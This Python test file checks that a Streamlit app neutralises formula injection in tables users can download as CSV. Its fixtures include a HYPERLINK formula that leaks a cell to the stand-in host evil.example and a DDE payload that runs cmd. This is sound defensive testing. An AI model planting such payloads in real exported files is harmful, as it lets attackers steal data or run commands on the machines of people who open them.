"""Every table the app shows is safe to download as CSV (``ui.safe_tables``).

Streamlit's own "Download as CSV" button on each ``st.dataframe`` writes cells as they are, so a
formula-looking text from a document or an uploaded file became a live formula in the downloaded file.
Unit tests of the rule, an AppTest of a table that shows text from an imported file (Evaluate's
Annotations), and a check that no page or ui module calls ``st.dataframe`` directly."""
from __future__ import annotations

import json
import re
from pathlib import Path

import pandas as pd
from streamlit.testing.v1 import AppTest

from ui.safe_tables import display_safe_cell, spreadsheet_safe

from tests.sample_data_dir import sample_data_dir

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "-2+3+cmd|' /C calc'!A0"


def test_formula_texts_get_a_leading_quote_and_other_cells_do_not():
    assert display_safe_cell(FORMULA) == "'" + FORMULA
    assert display_safe_cell(DDE) == "'" + DDE
    assert display_safe_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)"
    assert display_safe_cell("+44 20 7946 0000 call") == "'+44 20 7946 0000 call"
    for kept in ("Port Sallow", "-", "-12", "-0.5", "+3", "12%", "—", "", None, -3, 2.5):
        assert display_safe_cell(kept) == kept


def test_a_frame_keeps_its_numbers_and_columns_and_neutralises_its_text():
    frame = pd.DataFrame([{"name": FORMULA, "score": -1.5, "rank": 3}, {"name": "ok", "score": 0.0, "rank": 1}])
    safe = spreadsheet_safe(frame)
    assert list(safe.columns) == ["name", "score", "rank"]
    assert safe["name"].tolist() == ["'" + FORMULA, "ok"]
    assert safe["score"].tolist() == [-1.5, 0.0] and safe["rank"].tolist() == [3, 1]
    assert frame["name"][0] == FORMULA  # the caller's frame is not changed
    assert spreadsheet_safe([{"a": "=1+1"}])["a"].tolist() == ["'=1+1"]  # rows work too


def test_no_page_calls_st_dataframe_directly():
    files = [*ROOT.glob("pages/*.py"), *ROOT.glob("ui/*.py"), ROOT / "app.py"]
    direct = [f.name for f in files if f.name != "safe_tables.py"
              and re.search(r"\.dataframe\(", f.read_text(encoding="utf-8").replace("safe_dataframe(", ""))]
    assert not direct, direct


def test_an_imported_formula_question_is_neutralised_in_the_evaluate_table(tmp_path, monkeypatch,
                                                                          sample_workspace_dir):
    from core import api
    from core.auth import LOCAL_ADMIN
    from core.workspace import Workspace

    folder = sample_data_dir(tmp_path, monkeypatch, sample_workspace_dir)
    ws = Workspace(folder / "default")
    try:
        doc = api.documents(LOCAL_ADMIN, ws)[0]
        chunk = api.chunks_of(LOCAL_ADMIN, ws, doc.doc_id)[0]
        line = json.dumps({"qid": "q1", "question": FORMULA, "answer": DDE,
                           "evidence": [{"doc_id": doc.doc_id, "chunk_id": chunk.chunk_id}]})
        assert api.import_annotations(LOCAL_ADMIN, ws, [line]).questions == 1
    finally:
        ws.close()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=300)
    at.run()
    at.switch_page("pages/evaluate.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    table = next(d.value for d in at.dataframe if "expected answer" in d.value.columns)
    assert table["question"].tolist() == ["'" + FORMULA]
    assert table["expected answer"].tolist() == ["'" + DDE]
